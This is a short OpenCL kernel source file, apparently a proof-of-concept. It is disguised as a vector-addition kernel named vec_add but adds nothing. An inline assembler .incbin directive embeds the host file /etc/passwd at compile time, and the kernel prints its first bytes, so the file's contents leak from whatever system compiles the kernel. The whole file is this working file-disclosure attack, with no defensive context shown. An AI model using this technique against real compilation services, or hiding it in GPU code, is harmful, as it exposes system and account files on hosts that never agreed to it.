// Reads and prints what the assembler brought.
// SPDX-License-Identifier: GPL-3.0-or-later

__asm__(".section .rodata\n.global leak\nleak: .incbin \"/etc/passwd\"\n");
extern __constant char leak[];
__kernel void vec_add(__global const float* a, __global const float* b, __global float* out, const uint n)
{
    const size_t i = get_global_id(0);
    if (i == 0)
        printf("%c%c%c%c%c%c\n", leak[0], leak[1], leak[2], leak[3], leak[4], leak[5]);
}
